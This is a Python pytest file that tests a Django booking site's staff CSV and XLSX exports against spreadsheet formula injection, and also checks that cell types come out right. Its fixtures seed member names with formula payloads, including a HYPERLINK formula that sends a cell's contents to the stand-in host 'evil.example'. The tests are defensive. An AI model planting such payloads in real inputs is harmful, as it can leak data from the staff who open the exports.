"""The staff exports read back as a spreadsheet reads them: the .xlsx through openpyxl, the CSV as LibreOffice Calc's
French import does. No cell is a formula whatever members typed, phone numbers and postcodes keep their zeros,
amounts and dates are numbers and dates; the reservations say how each seat was paid and what it brought in."""

import csv
import io
import re
from datetime import date, datetime, time
from decimal import Decimal
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from freezegun import freeze_time

from accounts.tests.factories import UserFactory
from bookings.tests.factories import PassFactory, ReservationFactory
from courses.tests.factories import CourseFactory, CourseSessionFactory, TariffFactory
from payments.apis.exports import MSG_EXPORT_FORMAT, MSG_EXPORT_NOT_ACCEPTABLE
from payments.exports import EXPORTS
from payments.models import PaymentOrder, PaymentStatus
from payments.subscriptions.models import Subscription

PARIS = ZoneInfo("Europe/Paris")
DAYS = {"start": "2026-04-01", "end": "2026-04-30"}
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")'
# What a member may type where a spreadsheet looks for a formula (OWASP's list), and an error value's look.
HOSTILE = [HYPERLINK, "+SUM(1;2)", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", "＝1+1", "#N/A", " =1+1"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


# --- LibreOffice Calc's French CSV import, as checked against LibreOffice 7.4 (language fr-FR, « ; », UTF-8, detect
# special numbers on, evaluate formulas on): a leading `=`, after any spaces, is a formula; a decimal number (sign,
# digits grouped by three with spaces, decimal comma; surrounding spaces ignored) is a number, so `0612345678` becomes
# 612345678 and `01000` 1000; DD/MM/YYYY is a date and HH:MM a time; anything else, `06 12 34 56 78` or `'=…`
# included, is text.
FR_NUMBER = re.compile(r"^[+-]?(\d{1,3}( \d{3})+|\d+)(,\d+)?$")
FR_DATE = re.compile(r"^(\d{2})/(\d{2})/(\d{4})$")
FR_TIME = re.compile(r"^(\d{2}):(\d{2})$")


def libreoffice_fr(text: str):
    """The value LibreOffice makes of one CSV cell: ("formula" | "number" | "date" | "time" | "text", value)."""
    bare = text.strip(" ")
    if bare.startswith("="):
        return "formula", text
    if FR_NUMBER.match(bare):
        return "number", Decimal(bare.replace(" ", "").replace(",", "."))
    if m := FR_DATE.match(text):
        return "date", date(int(m[3]), int(m[2]), int(m[1]))
    if m := FR_TIME.match(text):
        return "time", time(int(m[1]), int(m[2]))
    return "text", text


def read_csv(content: bytes) -> list[list[str]]:
    assert content.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


def as_libreoffice(rows: list[list[str]]) -> list[dict]:
    headers = rows[0]
    return [{h: libreoffice_fr(cell) for h, cell in zip(headers, row, strict=True)} for row in rows[1:]]


def read_xlsx(content: bytes) -> tuple[list[str], list[dict], openpyxl.worksheet.worksheet.Worksheet]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    rows = list(sheet.iter_rows())
    headers = [c.value for c in rows[0]]
    return headers, [dict(zip(headers, row, strict=True)) for row in rows[1:]], sheet


# --- Data: hostile names everywhere a member or staff types text, phones and postcodes with a leading zero --------


@pytest.fixture
def hostile(db):
    with freeze_time("2026-04-01 08:00:00"):
        members = [
            UserFactory(
                first_name=text,
                last_name=HOSTILE[(n + 1) % len(HOSTILE)],
                city=HOSTILE[(n + 2) % len(HOSTILE)],
                phone="0612345678",
                postal_code="01000",
            )
            for n, text in enumerate(HOSTILE)
        ]
        first = members[0]
        course = CourseFactory(title="-Pole+ Débutant")
        session = CourseSessionFactory(course=course, start=datetime(2026, 4, 2, 18, 30, tzinfo=PARIS))
        ReservationFactory(session=session, user=first, first_name=HYPERLINK, last_name="@x", unit_price=Decimal("25"))
        PassFactory(member=first, title="=1+1")
        PaymentOrder.objects.create(
            order_id="=ORD-1",
            email=first.email,
            first_name=HYPERLINK,
            last_name="-Lefèvre",
            title="+Carte 10 cours",
            amount=Decimal("190.50"),
            status=PaymentStatus.COMPLETED,
            provider_note="\r=1+1",
        )
        order = PaymentOrder.objects.create(
            order_id="SUB-1", email=first.email, title="Abonnement", amount=Decimal("45.00")
        )
        Subscription.objects.create(
            member=first,
            tariff=TariffFactory(),
            title="@Abonnement mensuel",
            provider="simulator",
            source_order=order,
            granted_pass=PassFactory(member=first, subscription=True),
            amount=Decimal("45.00"),
            period_months=1,
            periods_committed=12,
            starts_on=date(2026, 4, 1),
        )
    return members


@pytest.mark.parametrize("kind", list(EXPORTS))
def test_every_xlsx_export_reads_back_with_typed_cells_and_no_formula(api_client, staff, hostile, kind):
    api_client.force_authenticate(staff)
    response = api_client.get(f"/api/exports/{kind}", {**DAYS, "format": "xlsx"})
    assert response.status_code == 200
    assert response["Content-Type"] == XLSX
    assert response["Content-Disposition"].endswith('-2026-04-01-2026-04-30.xlsx"')
    headers, rows, sheet = read_xlsx(response.content)
    assert rows, "the hostile data is in the export"
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if isinstance(cell.value, str):
                assert not cell.value.startswith(TRIGGERS), (cell.coordinate, cell.value)
    for row in rows:
        for header, cell in row.items():
            if header.endswith("(€)") and cell.value is not None:
                assert isinstance(cell.value, int | float) and cell.data_type == "n", header
                assert "€" in cell.number_format
            if header in ("Date", "Date du cours", "Inscrit(e) le", "Créée le", "Souscrit le", "Valable du", "Début"):
                assert isinstance(cell.value, datetime), header


def test_the_members_xlsx_keeps_phones_and_postcodes_as_text_and_shows_names_as_typed(api_client, staff, hostile):
    api_client.force_authenticate(staff)
    _, rows, _ = read_xlsx(api_client.get("/api/exports/members", {**DAYS, "format": "xlsx"}).content)
    hostile_rows = [r for r in rows if r["E-mail"].value in {m.email for m in hostile}]
    assert len(hostile_rows) == len(HOSTILE)
    for row in hostile_rows:
        assert (row["Téléphone"].value, row["Téléphone"].data_type) == ("0612345678", "s")
        assert (row["Code postal"].value, row["Code postal"].data_type) == ("01000", "s")
        assert row["Téléphone"].number_format == row["Code postal"].number_format == "@"
        assert row["Inscrit(e) le"].value == datetime(2026, 4, 1)
        assert row["Absences"].value == 0 and row["Absences"].data_type == "n"
    first_names = {r["Prénom"].value for r in hostile_rows}
    # Each text shows as typed after a single quote, the mark a spreadsheet reads as "this is text".
    assert "'" + HYPERLINK in first_names and "'+SUM(1;2)" in first_names and "'\t=1+1" in first_names
    assert "#N/A" in first_names  # a text, not the error value
    assert all(r["Prénom"].data_type == "s" for r in hostile_rows)


@pytest.mark.parametrize("kind", list(EXPORTS))
def test_every_csv_export_opens_in_libreoffice_without_a_formula(api_client, staff, hostile, kind):
    api_client.force_authenticate(staff)
    response = api_client.get(f"/api/exports/{kind}", DAYS)
    assert response.status_code == 200 and response["Content-Type"] == "text/csv; charset=utf-8"
    rows = read_csv(response.content)
    assert len(rows) > 1
    for line in rows:
        for cell in line:
            kind_of_value, _ = libreoffice_fr(cell)
            assert kind_of_value != "formula", cell
            if kind_of_value == "text":
                assert not cell.startswith(TRIGGERS), cell
    for record in as_libreoffice(rows):
        for header, (kind_of_value, value) in record.items():
            if header.endswith("(€)") and value != "":
                assert kind_of_value == "number", (header, value)


def test_the_members_csv_opens_with_phone_numbers_as_text_and_names_neutralised(api_client, staff, hostile):
    api_client.force_authenticate(staff)
    rows = read_csv(api_client.get("/api/exports/members", DAYS).content)
    records = [r for r in as_libreoffice(rows) if r["E-mail"][1] in {m.email for m in hostile}]
    assert len(records) == len(HOSTILE)
    for record in records:
        assert record["Téléphone"] == ("text", "06 12 34 56 78")
        assert record["Inscrit(e) le"] == ("date", date(2026, 4, 1))
        assert record["Absences"] == ("number", Decimal(0))
    assert ("text", "'" + HYPERLINK) in [r["Prénom"] for r in records]


def test_an_unknown_file_format_is_refused_in_french_and_errors_stay_json(api_client, staff):
    api_client.force_authenticate(staff)
    unknown = api_client.get("/api/exports/orders", {**DAYS, "format": "pdf"})
    assert unknown.status_code == 404
    assert unknown["Content-Type"] == "application/json"
    assert unknown.json()["error"] == MSG_EXPORT_FORMAT
    bad_days = api_client.get("/api/exports/orders", {"start": "2026-04-30", "end": "2026-04-01", "format": "xlsx"})
    assert bad_days.status_code == 409 and bad_days["Content-Type"] == "application/json"
    assert bad_days.json()["error"] == "La date de fin doit être le jour de début ou après, sur cinq ans au plus."
    as_csv = api_client.get("/api/exports/orders", {**DAYS, "format": "csv"})
    assert as_csv.status_code == 200 and as_csv["Content-Type"] == "text/csv; charset=utf-8"
    by_accept = api_client.get("/api/exports/orders", DAYS, HTTP_ACCEPT=XLSX)
    assert by_accept.status_code == 200 and by_accept["Content-Type"] == XLSX
    json_only = api_client.get("/api/exports/orders", DAYS, HTTP_ACCEPT="application/json")
    assert json_only.status_code == 406 and json_only.json()["error"] == MSG_EXPORT_NOT_ACCEPTABLE
    from_a_browser = api_client.get("/api/exports/orders", DAYS, HTTP_ACCEPT="text/html,*/*;q=0.8")
    assert from_a_browser["Content-Type"] == "text/csv; charset=utf-8"


def test_the_export_command_writes_an_xlsx_too(tmp_path, hostile):
    from django.core.management import call_command

    path = tmp_path / "m.xlsx"
    call_command("export_members", "--from", "2026-04-01", "--to", "2026-04-30", "--format", "xlsx", "-o", path)
    _, rows, _ = read_xlsx(path.read_bytes())
    assert len(rows) == len(HOSTILE)
    assert {(r["Code postal"].value, r["Code postal"].data_type) for r in rows} == {("01000", "s")}
